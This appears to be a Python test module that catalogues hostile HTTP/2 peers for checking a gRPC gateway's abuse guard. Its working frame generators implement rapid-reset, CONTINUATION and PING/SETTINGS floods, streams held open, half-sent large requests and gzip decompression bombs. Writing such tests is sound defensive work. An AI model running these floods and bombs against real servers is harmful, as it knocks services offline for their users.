"""What hostile and broken peers send, each as an opening and blocks that follow it for ever."""

import collections
import dataclasses
import functools
import itertools
import typing

from hpack import Encoder

import frames
import judge

OPEN_WINDOW = (1 << 31) - 1
CALLS_AT_ONCE = 900  # calls at a time of one that keeps to max_streams
CALL_BYTES = (1 << 20) - 5  # of one that keeps to max_request_bytes
LARGE_HEADER = 16000
BOMB, BOMBS = 300 << 20, 6  # bytes of one; at a time
GZIP = [("grpc-encoding", "gzip")]


class Wire:
    """One connection as the attack sees it: what it may send, and how headers are packed there."""

    def __init__(self, scheme, number, many=False):
        self.scheme, self.number = scheme, number
        # So many streams in a block; few where many connections are, that each has its turn.
        self.streams = frames.NEW_STREAMS // 8 if many else frames.NEW_STREAMS
        self.encoder = Encoder()
        self.window = frames.WINDOW  # that is left of the connection's
        self.windows = {}  # of the streams that have used theirs up
        self.unread = bytearray()

    def header_block(self, method, more=()):
        """The second time it is all from the table: a few bytes."""
        return self.encoder.encode(frames.call_headers(method, self.scheme, more))

    def whole_call(self, stream, method="GetNumber", body=None, more=()):
        body = frames.message(frames.field(1, self.number) if body is None else body)
        return frames.headers(stream, self.header_block(method, more)) + frames.data(stream, body, end=True)

    def read(self, received):
        """Windows that the other side opens."""
        self.unread += received
        for kind, _, stream, payload in frames.each(self.unread):
            if kind == 8:
                more = int.from_bytes(payload, "big") & 0x7FFFFFFF
                if stream == 0:
                    self.window += more
                else:
                    self.windows[stream] = self.windows.get(stream, 0) + more


@dataclasses.dataclass(frozen=True)
class Attack:
    name: str
    what: str
    opening: typing.Callable  # of a Wire: bytes
    blocks: typing.Callable  # of a Wire: bytes without end, of which b"" waits
    reasons: tuple = ()  # why it is to be cut, as metrics have it; none: its cost is bounded otherwise
    patient: bool = False  # only time makes it an offence: at full speed it is no faster than when mild
    right: bool = False  # today's gateway stands it, and is to go on so
    spared: bool = False  # two that do no more than this may not be cut; a crowd may, as it fills memory
    reads: bool = True
    windows: bool = False  # the attack needs to know of them
    tls_only: bool = False
    record: int = 1 << 16  # bytes to write at a time


ATTACKS: dict = {}


def attack(name, what, *reasons, **more):
    """Decorates what gives the blocks, which may do so after an opening of its own."""
    def add(blocks):
        opening = more.pop("opening", first_call)
        ATTACKS[name] = Attack(name, what, opening, blocks, reasons, **more)
        return blocks
    return add


def first_call(wire):
    """A call in order, after which each header block is short."""
    return frames.preface() + frames.settings_ack() + wire.whole_call(1)


def unended_first(wire):
    return frames.preface() + frames.settings_ack() + frames.headers(1, wire.header_block("GetNumber"))


def forever(block, size=1 << 18):
    block = memoryview(block * max(1, size // len(block)))
    return itertools.repeat(block)


@functools.lru_cache(maxsize=4)
def calls_at_once(block, body):
    """So many calls; with a body, whole ones."""
    return b"".join(frames.headers(stream, block) + (frames.data(stream, body, end=True) if body else b"")
                    for stream in range(3, 3 + 2 * CALLS_AT_ONCE, 2))


@attack("unended_streams", "opens streams and never ends them", "unfinished_calls", "idle_frames")
def unended_streams(wire):
    block = wire.header_block("GetNumber")
    return frames.NewStreams(lambda stream: frames.headers(stream, block), wire.streams)


@attack("continuation", "CONTINUATION without end, full of headers", "header_block", "idle_frames", judge.GRPC)
def continuation(wire):
    piece = frames.literals(frames.MAX_FRAME)
    opened = frames.headers(3, wire.header_block("GetNumber"), "OPEN")
    return itertools.chain([opened], forever(frames.continuation(3, piece)))


@attack("held_open", "opens 900 streams and then is silent", "unfinished_calls", patient=True)
def held_open(wire):
    yield calls_at_once(wire.header_block("GetNumber"), b"")
    while True:
        yield b""


@attack("empty_continuation", "CONTINUATION without end and without a byte", "header_block", "idle_frames")
def empty_continuation(wire):
    opened = frames.headers(3, wire.header_block("GetNumber"), "OPEN")
    return itertools.chain([opened], forever(frames.continuation(3, b"")))


@attack("rapid_reset", "opens a stream and resets it at once", "rapid_resets", "idle_frames")
def rapid_reset(wire):
    block = wire.header_block("GetNumber")
    return frames.NewStreams(lambda stream: frames.headers(stream, block) + frames.reset(stream), wire.streams)


@attack("whole_reset", "sends a whole call and resets it at once", "rapid_resets", "idle_frames")
def whole_reset(wire):
    block = wire.header_block("GetNumber")
    body = frames.message(frames.field(1, wire.number))
    return frames.NewStreams(
        lambda stream: frames.headers(stream, block) + frames.data(stream, body, end=True) + frames.reset(stream),
        wire.streams)


# gRPC 1.51 ends a connection at that, before the guard has a reason.
@attack("made_to_reset", "makes the server reset each call, by a window of no bytes")
def made_to_reset(wire):
    block = wire.header_block("GetNumber")
    return frames.NewStreams(
        lambda stream: frames.headers(stream, block) + frames.window_update(stream, 1)[:-1] + b"\0", wire.streams)


@attack("ping", "PING without end", "idle_frames")
def ping(wire):
    return forever(frames.ping())


@attack("unread_ping", "PING without end, whose answers are not read", "idle_frames", reads=False)
def unread_ping(wire):
    return forever(frames.ping())


@attack("settings", "SETTINGS without end", "idle_frames")
def settings(wire):
    return forever(frames.settings())


@attack("changing_settings", "SETTINGS without end that open and close the window of a stream", "idle_frames",
        opening=unended_first)
def changing_settings(wire):
    return forever(frames.settings({4: 1}) + frames.settings({4: 65535}))


@attack("empty_data", "empty DATA without end on one stream", "idle_frames", opening=unended_first)
def empty_data(wire):
    return forever(frames.data(1))


@attack("half_sent", "900 requests of 1 MiB that lack their last bytes", windows=True)
def half_sent(wire):
    """Keeps to the windows that it is given."""
    block = wire.header_block("GetNumber")
    rest, left = {}, collections.Counter()  # by stream: bytes until it lacks only the last ones; its window
    ready = []  # streams that have both
    begin = frames.message(bytes(CALL_BYTES))[:5]
    streams = iter(range(3, 3 + 2 * CALLS_AT_ONCE, 2))
    while True:
        for stream in list(wire.windows):
            left[stream] += wire.windows.pop(stream)
            if rest.get(stream) and stream not in ready:
                ready.append(stream)
        if wire.window < len(begin):
            yield b""
        elif ready:
            stream = ready[-1]
            size = min(wire.window, left[stream], rest[stream], frames.MAX_FRAME)
            left[stream] -= size
            rest[stream] -= size
            wire.window -= size
            if not left[stream] or not rest[stream]:
                ready.pop()
            yield frames.data(stream, bytes(size))
        elif (stream := next(streams, None)) is not None:
            rest[stream], left[stream] = CALL_BYTES - 10, frames.WINDOW - len(begin)
            wire.window -= len(begin)
            ready.append(stream)
            yield frames.headers(stream, block) + frames.data(stream, begin)
        else:
            yield b""


@functools.lru_cache(maxsize=1)
def bomb():
    return frames.message(frames.deflated_zeros(BOMB), compressed=True)


@attack("bombs", "requests of 300 KB that are 300 MB of zeros, by gzip, 6 at a time", windows=True,
        opening=lambda wire: frames.preface() + frames.settings_ack() + wire.whole_call(1, more=GZIP))
def bombs(wire):
    """Keeps to the windows, so that each comes whole."""
    block = wire.header_block("GetNumber", GZIP)
    body = bomb()
    for round_of in itertools.count():
        streams = range(3 + 2 * BOMBS * round_of, 3 + 2 * BOMBS * (round_of + 1), 2)
        yield b"".join(frames.headers(stream, block) for stream in streams)
        sent = dict.fromkeys(streams, 0)
        for stream in streams:
            wire.windows[stream] = wire.windows.get(stream, 0) + frames.WINDOW
        turns = 0
        while sent and turns < 2000:  # one that was answered has no window any more
            moved = b""
            for stream in list(sent):
                size = min(wire.window, wire.windows[stream], frames.MAX_FRAME, len(body) - sent[stream])
                if size > 0:
                    last = sent[stream] + size == len(body)
                    moved += frames.data(stream, body[sent[stream]:sent[stream] + size], last)
                    sent[stream] += size
                    wire.window -= size
                    wire.windows[stream] -= size
                    if last:
                        del sent[stream]
            turns = 0 if moved else turns + 1
            yield moved


@attack("tiny_records", "a TLS record for each byte of its frames", tls_only=True, record=1)
def tiny_records(wire):
    # Of a type that gRPC leaves alone, and long, so that there are few.
    return forever(frames.unknown(bytes(frames.MAX_FRAME)))


def all_at_once(wire):
    """So many calls of lists, and then nothing."""
    yield calls_at_once(wire.header_block("ListAvailableNumbers"), frames.message(b""))
    while True:
        yield b""


def open_window(wire):
    return (frames.preface(OPEN_WINDOW) + frames.settings_ack() +
            frames.window_update(0, OPEN_WINDOW - frames.WINDOW) + wire.whole_call(1, "ListAvailableNumbers", b""))


def closed_window(wire):
    return frames.preface(0) + frames.settings_ack() + wire.whole_call(1, "ListAvailableNumbers", b"")


@attack("endless_calls", "asks for lists without end, and gives the answers no window", "too_many_calls",
        "unread_answers", reads=False, opening=closed_window)
def endless_calls(wire):
    block = wire.header_block("ListAvailableNumbers")
    body = frames.message(b"")
    return frames.NewStreams(lambda stream: frames.headers(stream, block) + frames.data(stream, body, end=True),
                             wire.streams)


@attack("unacknowledged", "calls without end, and SETTINGS never acknowledged", "unacknowledged",
        opening=lambda wire: frames.preface() + wire.whole_call(1))
def unacknowledged(wire):
    block = wire.header_block("GetNumber")
    body = frames.message(frames.field(1, wire.number))
    return frames.NewStreams(lambda stream: frames.headers(stream, block) + frames.data(stream, body, end=True),
                             wire.streams)


@attack("never_read", "asks for 900 lists at once and never reads", right=True, spared=True, reads=False,
        opening=open_window)
def never_read(wire):
    return all_at_once(wire)


@attack("no_window", "asks for 900 lists at once and gives them no window", right=True, spared=True, opening=closed_window)
def no_window(wire):
    return all_at_once(wire)


@attack("priority", "PRIORITY without end", right=True)
def priority(wire):
    return forever(frames.priority(1))


@attack("window_update", "WINDOW_UPDATE without end", right=True)
def window_update(wire):
    return forever(frames.window_update(0))


@attack("unknown", "frames of an unknown type without end", right=True)
def unknown(wire):
    return forever(frames.unknown())


@attack("large_headers", "calls with headers of 16 KB without end", right=True)
def large_headers(wire):
    block = wire.header_block("GetNumber") + frames.literals(LARGE_HEADER)
    body = frames.message(frames.field(1, wire.number))
    return frames.NewStreams(lambda stream: frames.headers(stream, block) + frames.data(stream, body, end=True), 128)


@attack("garbage", "something else than HTTP/2", right=True, opening=lambda wire: b"GET / HTTP/1.1\r\nHost: x\r\n")
def garbage(wire):
    return forever(b"X-Header: 0123456789\r\n")
